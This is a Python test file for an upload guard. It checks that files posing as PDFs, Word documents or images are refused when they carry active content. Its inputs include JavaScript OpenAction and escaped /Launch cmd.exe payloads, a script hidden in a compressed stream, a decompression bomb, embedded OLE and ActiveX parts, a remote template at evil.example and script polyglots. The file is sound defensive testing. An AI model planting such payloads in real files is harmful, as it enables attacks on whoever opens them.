"""Files that pretend to be something else, at the door where every upload enters."""

import io
import zipfile
import zlib

import pytest

from nastavnik.core.containers import Unreadable
from nastavnik.core.files import DOCUMENTS, SCANS
from nastavnik.core.files.guards import guard

OFFICE = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def pdf(*parts: bytes) -> bytes:
    return b"%PDF-1.7\n" + b"\n".join(parts) + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def docx(**more: bytes) -> bytes:
    box = io.BytesIO()
    with zipfile.ZipFile(box, "w") as archive:
        archive.writestr("[Content_Types].xml", b"<Types>" + OFFICE + b"</Types>")
        archive.writestr("word/document.xml", b"<w:document/>")
        for name, data in more.items():
            archive.writestr(name, data)
    return box.getvalue()


PLAIN = pdf(b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj")
HIDDEN = zlib.compress(b"3 0 4 40 <</S/JavaScript/JS(app.alert(1))>> <</Type/Catalog>>")


def test_a_plain_document_is_taken() -> None:
    assert guard(PLAIN, "скан.pdf", SCANS)
    assert guard(docx(), "письмо.docx", DOCUMENTS)


def test_three_bytes_that_stand_in_a_scan_by_chance_do_not_refuse_it() -> None:
    picture = (
        b"5 0 obj<</Subtype/Image/Filter/DCTDecode>>stream\n\xff\xd8\x11/JS \x00#5x\x7f\nendstream endobj"
    )
    assert guard(pdf(picture), "скан.pdf", SCANS)


@pytest.mark.parametrize(
    "active",
    [
        b"1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
        b"1 0 obj<</OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>>>endobj",
        b"1 0 obj<</S/#4c#61unch/F(cmd.exe)>>endobj",
        b"1 0 obj<</Type/ObjStm/Filter/FlateDecode/N 2/First 10/Length %d>>stream\n%s\nendstream endobj"
        % (len(HIDDEN), HIDDEN),
    ],
    ids=["plain", "escaped name", "escaped launch", "packed into a stream"],
)
def test_a_program_inside_a_pdf_is_found_however_it_is_written(active: bytes) -> None:
    with pytest.raises(Unreadable):
        guard(pdf(active), "скан.pdf", SCANS)


def test_a_stream_that_unpacks_without_end_does_not_exhaust_the_memory() -> None:
    bomb = zlib.compress(b"\x00" * 60_000_000)
    whole = pdf(b"1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" + bomb + b"\nendstream endobj")
    with pytest.raises(Unreadable):
        guard(whole, "скан.pdf", SCANS)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"),
        ("word/activeX/activeX1.xml", b"<ax/>"),
        (
            "word/_rels/settings.xml.rels",
            b'<Relationship Type="x/attachedTemplate" Target="http://evil.example/x" TargetMode="External"/>',
        ),
    ],
    ids=["embedded object", "active control", "template from afar"],
)
def test_a_document_with_something_to_run_is_refused(name: str, data: bytes) -> None:
    with pytest.raises(Unreadable):
        guard(docx(**{name: data}), "письмо.docx", DOCUMENTS)


@pytest.mark.parametrize(
    "data",
    [
        b"<html><script>alert(1)</script></html>",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"GIF89a/*<script>*/",
        b"\xff\xd8\xff<script>alert(1)</script>",
        b"MZ\x90\x00",
    ],
)
def test_a_web_page_named_as_a_picture_is_refused(data: bytes) -> None:
    with pytest.raises(Unreadable):
        guard(data, "фото.jpg", SCANS)
